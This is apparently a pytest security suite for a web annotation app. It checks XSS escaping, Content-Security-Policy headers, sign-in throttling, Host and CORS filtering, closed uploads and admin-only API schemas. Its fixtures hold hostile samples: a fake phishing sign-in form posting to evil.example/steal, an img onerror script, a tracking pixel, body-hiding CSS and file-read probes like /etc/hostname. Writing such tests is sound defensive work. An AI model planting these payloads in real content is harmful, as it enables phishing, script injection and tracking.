"""Safe to share with a team (issue 17, the web side): the real server, driven with raw HTTP, gradio_client and
headless Chromium. Hostile annotator text renders as text in the Label and adjudication views; every page
carries a Content-Security-Policy; sign-in backs off and logs failures, and a login flood does not stall
signed-in users; only allowed Host names are served and foreign origins get no CORS; uploads and file
downloads are closed; the API schema is for admins; an unexpected error is a short line for the user and
a traceback in the log."""

from __future__ import annotations

import contextlib
import http.client
import json
import re
import shutil
import statistics
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlencode

import pytest

from tests.test_app import BROWSER_ARGS, CHROMIUM, free_port, needs_chromium

PASSWORD = "test-password"
PHISH = ('<div id="phish" style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999">'
         '<form action="http://evil.example/steal"><input type=password name=pw><button>Sign in</button></form></div>')
TRACKER = "![t](http://evil.example/track.png)"
HOSTILE = {"system": "Be terse. <style>body{display:none}</style>",
           "prompt": "My screen cracked <img src=x onerror=alert(1)> " + TRACKER,
           "chosen": PHISH + " See " + TRACKER + " and [our policy](http://evil.example/policy).",
           "rejected": "Sorry. <input type=password placeholder='re-enter your password'>"}
GUIDELINES = "Be **kind**. " + PHISH + " " + TRACKER


# ------------------------------------------------------------------ the rendering path, as plain functions
def test_user_markdown_escapes_html_and_keeps_only_a_safe_subset():
    from workbench.ui.render import code, inline, user_markdown

    out = user_markdown(HOSTILE["chosen"] + "\n\n**bold** `x<y`\n\n- one\n- two <b>")
    for tag in ("<div", "<form", "<input", "<button", "<img", "style=", "<b>"):
        assert tag not in out, tag
    assert "<strong>bold</strong>" in out and "<li>one</li>" in out and "<code>x&#60;y</code>" in out
    # the image is its alt text and address, never an <img>; the link says where it goes
    assert 'class="user-image">&#91;image: t&#93;' in out and "evil&#46;example&#47;track&#46;png" in out
    link = re.search(r'<a href="[^"]+" ([^>]+)>our policy</a> <span class="user-link-address">\(([^<]+)\)', out)
    assert link and 'rel="noopener noreferrer nofollow"' in link.group(1) and 'target="_blank"' in link.group(1)
    assert "evil&#46;example&#47;policy" in link.group(2)
    for risky in ("[x](javascript:alert(1))", "[x](/logout)", "[x](data:text/html,hi)"):
        assert "<a " not in user_markdown(risky), risky  # only http(s) and mailto addresses are links
    assert "<img" not in user_markdown("<http://evil.example/a.png>")
    # inside the app's own Markdown a name or tag is literal text
    assert inline("a_b <img src=x> ![t](http://h/t.png)") == r"a\_b \<img src=x\> \!\[t\](http\://h/t.png)"
    assert inline("Saved. sft-1 margin") == "Saved. sft-1 margin"
    assert code("held|out") == "`held\\|out`" and code("a`b") == "``a`b``"


# ------------------------------------------------------------------ servers
@pytest.fixture(scope="module")
def hostile_template(tmp_path_factory, tiny_model):
    """A project whose only pair, system prompt and guidelines are hostile; users root, ann, bob. Never served
    itself: each server gets a copy (a server is its store's one writer)."""
    from workbench.auth import add_user
    from workbench.cli import main
    from workbench.projects import init_project
    from workbench.store import Store

    tmp = tmp_path_factory.mktemp("security")
    project = init_project(tmp / "proj", base_model=str(tiny_model))
    src = tmp / "hostile.jsonl"
    src.write_text(json.dumps({"prompt": [{"role": "system", "content": HOSTILE["system"]},
                                          {"role": "user", "content": HOSTILE["prompt"]}],
                               "chosen": [{"role": "assistant", "content": HOSTILE["chosen"]}],
                               "rejected": [{"role": "assistant", "content": HOSTILE["rejected"]}]}) + "\n")
    assert main(["import", "-p", str(project.root), str(src)]) == 0
    with Store.open(project.store_path) as store:
        for name, role in (("root", "admin"), ("ann", "annotator"), ("bob", "annotator")):
            add_user(store, name, role, PASSWORD)
    assert main(["tasks", "add", "hostile", "--kind", "pairwise", "--overlap", "2", "--source", "hostile.jsonl",
                 "-p", str(project.root), "--guidelines", GUIDELINES]) == 0
    return project.root


def copy_of(template: Path, where: Path) -> Path:
    shutil.copytree(template, where / "proj")
    return where / "proj"


class Server:
    """`workbench serve ROOT --port P [extra]` in its own process, its log in a file."""

    def __init__(self, root: Path, log: Path, *extra: str):
        self.port, self.log = free_port(), log
        self.url = f"http://127.0.0.1:{self.port}"
        self.proc = subprocess.Popen([sys.executable, "-m", "workbench.cli", "serve", str(root), "--port",
                                      str(self.port), *extra], stdout=log.open("w"), stderr=subprocess.STDOUT)
        deadline = time.time() + 120
        while True:
            try:
                self.request("GET", "/")
                return
            except OSError:
                if self.proc.poll() is not None or time.time() > deadline:
                    self.stop()
                    raise AssertionError(log.read_text()) from None
                time.sleep(0.5)

    def request(self, method: str, path: str, body: bytes | str | None = None, headers: dict | None = None,
                host: str | None = None):
        """(status, headers as a lower-cased dict, body bytes); raw HTTP, any Host header."""
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        try:
            conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
            conn.putheader("Host", f"127.0.0.1:{self.port}" if host is None else host)
            for key, value in (headers or {}).items():
                conn.putheader(key, value)
            data = body.encode() if isinstance(body, str) else body
            if data is not None:
                conn.putheader("Content-Length", str(len(data)))
            conn.endheaders(data)
            response = conn.getresponse()
            return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
        finally:
            conn.close()

    def login(self, name: str, password: str = PASSWORD, host: str | None = None):
        """(status, cookie header for the session or "", response headers, body)."""
        status, headers, body = self.request("POST", "/login", urlencode({"username": name, "password": password}),
                                             {"Content-Type": "application/x-www-form-urlencoded"}, host)
        cookie = "; ".join(c.split(";", 1)[0] for c in _set_cookies(self, headers)) if status == 200 else ""
        return status, cookie, headers, body

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=30)


def _set_cookies(server, headers) -> list[str]:
    # http.client folds repeated Set-Cookie headers into one line joined by ", "
    return [c for c in re.split(r", (?=access-token)", headers.get("set-cookie", "")) if c]


@pytest.fixture(scope="module")
def server(hostile_template, tmp_path_factory):
    """One server, as `workbench serve` starts by default, for the tests that leave no sign-in failures."""
    where = tmp_path_factory.mktemp("served")
    s = Server(copy_of(hostile_template, where), where / "server.log")
    yield s
    s.stop()


@pytest.fixture(scope="module")
def team_server(hostile_template, tmp_path_factory):
    """A server shared with a team under the name team.example."""
    where = tmp_path_factory.mktemp("team")
    s = Server(copy_of(hostile_template, where), where / "server.log", "--allowed-host", "team.example")
    yield s
    s.stop()


@pytest.fixture
def fresh_server(hostile_template, tmp_path):
    """A server of its own, for tests that trip the sign-in throttle."""
    s = Server(copy_of(hostile_template, tmp_path), tmp_path / "server.log")
    yield s
    s.stop()


# ------------------------------------------------------------------ 1. hostile text renders as text
@pytest.mark.e2e
@needs_chromium
def test_hostile_text_is_inert_in_the_label_and_adjudication_views(server):
    """A fake full-screen sign-in, password inputs, a form posting elsewhere, remote images and a script in an
    annotator's text: in Chromium, none of it becomes an element; the text is shown as typed; the page loads
    nothing from another host and breaks none of its own Content-Security-Policy."""
    from gradio_client import Client
    from playwright.sync_api import expect, sync_playwright

    def no_hostile_elements(page):
        assert page.locator("#phish, form").count() == 0
        assert page.locator("input[type=password]").count() == 0
        srcs = [img.get_attribute("src") or "" for img in page.locator("img").all()]
        assert [s for s in srcs if not s.startswith("data:")] == []  # Gradio's own icons are data: URLs
        assert page.evaluate("getComputedStyle(document.body).display") != "none"

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        foreign, console = [], []

        def new_page():  # a browser context of its own: its own session cookie
            context = browser.new_context()
            context.on("request", lambda r: foreign.append(r.url)
                       if r.url.startswith("http") and "127.0.0.1" not in r.url else None)
            return context.new_page()

        page = new_page()
        page.on("console", lambda m: console.append(m.text))
        page.goto(server.url)
        page.fill("input[data-testid=textbox]", "ann")
        page.fill("input[type=password]", PASSWORD)
        page.get_by_role("button", name="Login").click()
        page.wait_for_selector("#whoami :text('Signed in as')", timeout=60_000)
        replies = page.locator("#response-A, #response-B")
        expect(replies.filter(has_text="<form action=")).to_have_count(1, timeout=15_000)
        page.keyboard.press("g")
        expect(page.locator("#guidelines")).to_contain_text("<form action=")
        no_hostile_elements(page)
        assert "<img src=x onerror=alert(1)>" in page.inner_text("#conversation")
        assert "[image: t] (http://evil.example/track.png)" in page.inner_text("#conversation")
        assert "<style>body{display:none}</style>" in page.inner_text("#system")
        link = page.locator("#response-A a, #response-B a").filter(has_text="our policy")
        assert "noopener" in link.get_attribute("rel") and link.get_attribute("target") == "_blank"
        shown = page.inner_text("#response-A") + page.inner_text("#response-B")
        assert "(http://evil.example/policy)" in shown  # the address is shown beside the link
        # the annotator answers with a hostile rationale; the admin adjudicates the item
        page.locator("#rationale textarea").fill("B is fine " + PHISH + " " + TRACKER)
        page.locator("body").click(position={"x": 5, "y": 5})
        page.keyboard.press("b")
        page.locator("#submit").click()
        expect(page.locator("#label-status")).to_contain_text("Saved.", timeout=15_000)

        item_id = Client(server.url, auth=("root", PASSWORD), verbose=False).predict(
            "task-hostile", api_name="/open_task")[-2]
        admin = new_page()
        admin.on("console", lambda m: console.append(m.text))
        admin.goto(server.url)
        admin.fill("input[data-testid=textbox]", "root")
        admin.fill("input[type=password]", PASSWORD)
        admin.get_by_role("button", name="Login").click()
        admin.wait_for_selector("#whoami :text('Signed in as')", timeout=60_000)
        admin.get_by_role("tab", name="Tasks").click()
        admin.locator("#admin-task input").click()
        admin.get_by_role("option", name="hostile (pairwise)").click()
        admin.get_by_text("Adjudicate an item").click()
        admin.locator("#adjudicate-item input, #adjudicate-item textarea").fill(item_id)
        admin.locator("#adjudicate-show").click()
        expect(admin.locator("#adjudicate-review")).to_contain_text("ann: B", timeout=15_000)
        review = admin.inner_text("#adjudicate-review")
        assert "B is fine <div id=\"phish\"" in review and "[image: t] (http://evil.example/track.png)" in review
        no_hostile_elements(admin)
        browser.close()
    assert foreign == []  # no tracking pixel, no font or script from anywhere else
    assert [m for m in console if "Content Security Policy" in m] == []


# ------------------------------------------------------------------ 1b. the Content-Security-Policy
REQUIRED_CSP = ("default-src 'self'", "img-src 'self' data:", "form-action 'self'", "frame-ancestors 'none'")


def test_every_response_carries_the_content_security_policy(server):
    _, cookie, _, _ = server.login("ann")
    assert cookie
    responses = {"sign-in page": server.request("GET", "/"),
                 "app page": server.request("GET", "/", headers={"Cookie": cookie}),
                 "config": server.request("GET", "/config", headers={"Cookie": cookie}),
                 "theme": server.request("GET", "/theme.css"),
                 "missing": server.request("GET", "/no-such-page/x.js")}
    for what, (_, headers, _) in responses.items():
        policy = headers.get("content-security-policy", "")
        for directive in REQUIRED_CSP:
            assert directive in policy, (what, directive, policy)
        assert "'unsafe-eval'" not in policy and "script-src 'self' 'nonce-" in policy, (what, policy)
        assert headers.get("x-content-type-options") == "nosniff"
    # the page's own inline scripts carry this response's nonce, and every script tag has it
    _, headers, body = responses["app page"]
    nonce = re.search(r"'nonce-([^']+)'", headers["content-security-policy"]).group(1)
    tags = re.findall(rb"<script[^>]*>", body)
    assert tags and all(f'nonce="{nonce}"'.encode() in t for t in tags)


# ------------------------------------------------------------------ 4. sign-in
def test_sign_in_backs_off_per_account_and_per_address_and_logs_failures(fresh_server):
    s = fresh_server
    for i in range(5):
        assert s.login("ann", f"wrong-password-{i}")[0] == 400
    status, _, headers, body = s.login("ann")  # the right password, straight after five wrong ones
    assert status == 429 and int(headers["retry-after"]) >= 1 and b"too many failed sign-ins" in body
    assert s.login("bob")[0] == 200  # another account from the same address is not held back yet
    # an address spraying made-up names is held back too, whatever account it asks for next
    for i in range(15):  # with ann's five: 20 failures from this address
        assert s.login(f"nobody{i}", "wrong-password")[0] == 400
    assert s.login("root")[0] == 429
    log = s.log.read_text()
    assert "sign-in failed for user 'ann' from 127.0.0.1" in log
    assert "sign-in failed for user 'nobody3' from 127.0.0.1" in log
    assert "wrong-password" not in log and PASSWORD not in log  # never a password in the log


@pytest.mark.e2e
@needs_chromium
def test_the_sign_in_page_says_why_a_sign_in_waits(fresh_server):
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        page = browser.new_page()
        page.goto(fresh_server.url)
        page.wait_for_selector("input[type=password]")
        for i in range(7):  # five free failures, then waits of 1 s and 2 s: the next try waits 4 s
            assert fresh_server.login("bob", f"wrong-password-{i}")[0] == 400
            time.sleep({4: 1.1, 5: 2.1}.get(i, 0))
        page.fill("input[data-testid=textbox]", "bob")
        page.fill("input[type=password]", PASSWORD)
        page.get_by_role("button", name="Login").click()
        expect(page.locator("#sign-in-wait")).to_contain_text("too many failed sign-ins: try again in")
        browser.close()


def test_a_login_flood_does_not_slow_signed_in_requests(fresh_server):
    """Ten threads posting wrong passwords: a signed-in user's requests keep their pace (the issue saw the
    median go from 2.8 ms to 891 ms, the hash running on the event loop)."""
    s = fresh_server
    _, cookie, _, _ = s.login("ann")

    def timed(n: int) -> list[float]:
        samples = []
        for _ in range(n):
            t = time.perf_counter()
            assert s.request("GET", "/config", headers={"Cookie": cookie})[0] == 200
            samples.append(time.perf_counter() - t)
        return samples

    timed(5)
    quiet = statistics.median(timed(40))
    stop = threading.Event()

    def flood(i: int) -> None:
        k = 0
        while not stop.is_set():
            with contextlib.suppress(Exception):  # a dropped connection is part of a flood
                s.login(("bob", "root", f"guess{i}-{k}")[k % 3], f"wrong-{i}-{k}")
            k += 1

    threads = [threading.Thread(target=flood, args=(i,)) for i in range(10)]
    for t in threads:
        t.start()
    try:
        time.sleep(1.0)
        flooded = statistics.median(timed(40))
    finally:
        stop.set()
        for t in threads:
            t.join(timeout=60)
    assert flooded <= max(3 * quiet, quiet + 0.03), (quiet, flooded)


# ------------------------------------------------------------------ 5. Host names and origins
def test_only_allowed_host_names_are_served(server, request):
    for host in ("evil.example", "evil.example:7860", "127.0.0.1.evil.example", ""):
        status, headers, body = server.request("GET", "/", host=host)
        assert status == 400 and b"--allowed-host" in body, host
    # a DNS-rebinding page signing in under its own name with a known password gets no session
    status, cookie, _, _ = server.login("ann", host="rebind.evil.example")
    assert status == 400 and cookie == ""
    assert server.request("GET", "/", host="team.example")[0] == 400  # not a name this server was given
    assert "refused Host 'rebind.evil.example'" in server.log.read_text()
    for host in ("localhost", f"127.0.0.1:{server.port}"):
        assert server.request("GET", "/", host=host)[0] == 200, host
    team = request.getfixturevalue("team_server")  # `serve --allowed-host team.example`
    for host in ("team.example", "TEAM.example:443", "localhost"):
        assert team.request("GET", "/", host=host)[0] == 200, host
    assert team.request("GET", "/", host="evil.example")[0] == 400


def test_foreign_origins_get_no_cors_and_cannot_post(server, request):
    _, cookie, _, _ = server.login("ann")
    foreign = {"Origin": "http://evil.example", "Cookie": cookie}
    status, headers, _ = server.request("OPTIONS", "/gradio_api/queue/join",
                                        headers={**foreign, "Access-Control-Request-Method": "POST"})
    assert status == 403 and "access-control-allow-origin" not in headers
    status, headers, _ = server.request("POST", "/gradio_api/queue/join", '{"data": []}',
                                        headers={**foreign, "Content-Type": "text/plain"})
    assert status == 403 and "access-control-allow-origin" not in headers
    status, _, _ = server.request("POST", "/login", urlencode({"username": "ann", "password": PASSWORD}),
                                  {"Origin": "null", "Content-Type": "application/x-www-form-urlencoded"})
    assert status == 403
    # served under a team's name (where Gradio's own CORS echoes any origin), a foreign page still reads nothing
    team = request.getfixturevalue("team_server")
    _, cookie, _, _ = team.login("ann", host="team.example")
    status, headers, _ = team.request("GET", "/config", host="team.example",
                                      headers={"Origin": "http://evil.example", "Cookie": cookie})
    assert status == 200 and not [k for k in headers if k.startswith("access-control-")]
    # the app's own origin still works
    status, headers, _ = team.request("POST", "/gradio_api/queue/join", '{}', host="team.example",
                                      headers={"Origin": "http://team.example", "Cookie": cookie,
                                               "Content-Type": "application/json"})
    assert status != 403


# ------------------------------------------------------------------ 6. uploads, files, the API schema
def test_uploads_and_file_downloads_are_closed(server):
    _, ann, _, _ = server.login("ann")
    _, bob, _, _ = server.login("bob")
    boundary = "----wb"
    blob = b"x" * (2 * 1024 * 1024)
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"big.bin\"\r\n"
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + blob + f"\r\n--{boundary}--\r\n".encode()
    status, _, answer = server.request("POST", "/gradio_api/upload", body,
                                       {"Cookie": ann, "Content-Type": f"multipart/form-data; boundary={boundary}"})
    assert status == 404, answer[:200]
    stored = json.loads(answer)[0] if answer.startswith(b"[") else "/tmp/gradio/x/big.bin"
    for path in (f"/gradio_api/file={stored}", "/gradio_api/file=/etc/hostname",
                 "/gradio_api/proxy=http://evil.example/", "/gradio_api/upload_progress?upload_id=1"):
        assert server.request("GET", path, headers={"Cookie": bob})[0] == 404, path


def test_the_api_schema_is_for_admins_only(server):
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    # the sign-in page embeds no schema for the anonymous visitor
    _, _, page = server.request("GET", "/")
    embedded = json.loads(re.search(rb"window\.gradio_api_info = (.*?);</script>", page, re.S).group(1))
    assert embedded["named_endpoints"] == {} and embedded["unnamed_endpoints"] == {}
    assert b"/stats" not in page and b"start_training" not in page
    _, ann, _, _ = server.login("ann")
    _, root, _, _ = server.login("root")
    status, _, info = server.request("GET", "/gradio_api/info", headers={"Cookie": ann})
    assert status == 200 and json.loads(info)["named_endpoints"] == {}
    assert server.request("GET", "/gradio_api/openapi.json", headers={"Cookie": ann})[0] == 403
    assert server.request("GET", "/openapi.json")[0] == 404  # FastAPI's own schema is off
    _, _, page = server.request("GET", "/", headers={"Cookie": ann})
    assert b"/start_training" not in re.search(rb"window\.gradio_api_info = .*?;</script>", page, re.S).group(0)
    status, _, info = server.request("GET", "/gradio_api/info", headers={"Cookie": root})
    assert status == 200 and {"/stats", "/start_training", "/adjudicate"} <= set(json.loads(info)["named_endpoints"])
    # no "Use via API" link in the footer
    config = json.loads(server.request("GET", "/config", headers={"Cookie": ann})[2])
    assert "api" not in config["footer_links"]
    # an annotator's script still calls what it may, and is refused the rest by the handler
    client = Client(server.url, auth=("ann", PASSWORD), verbose=False)
    assert "Signed in as **ann** (annotator)" in client.predict(api_name="/whoami")[0]
    with pytest.raises(AppError, match="needs the role admin"):
        client.predict(api_name="/stats")


# ------------------------------------------------------------------ short messages, detail in the log
def test_an_unexpected_error_is_one_short_line_and_the_detail_is_in_the_log(server):
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    client = Client(server.url, auth=("bob", PASSWORD), verbose=False)
    with pytest.raises(AppError) as caught:
        client.predict({"not": "a task"}, api_name="/open_task")  # a value no page sends
    message = str(caught.value)
    ref = re.search(r"Something went wrong on the server \(ref ([0-9a-f]{8})\)", message)
    assert ref, message
    assert "Traceback" not in message and "Error:" not in message and "unhashable" not in message
    log = server.log.read_text()
    assert f"(ref {ref.group(1)})" in log and "Traceback" in log.split(f"(ref {ref.group(1)})", 1)[1][:200]


def test_backoff_waits_doubles_caps_and_forgets():
    from workbench.auth import Backoff

    b = Backoff(free=2, base_s=1.0, ceiling_s=4.0, forget_s=60.0)
    assert b.wait("ann", 0.0) == 0
    b.fail("ann", 0.0)
    assert b.wait("ann", 0.0) == 0  # a typo costs nothing
    b.fail("ann", 0.0)
    assert b.wait("ann", 0.5) == 0.5  # then 1 s from the last failure
    for t in (1.0, 3.0, 7.0, 11.0):
        b.fail("ann", t)
    assert b.wait("ann", 11.0) == 4.0  # doubling, up to the ceiling
    assert b.wait("bob", 11.0) == 0  # per key
    assert b.wait("ann", 72.0) == 0 and "ann" not in b.failures  # forgotten after a quiet minute
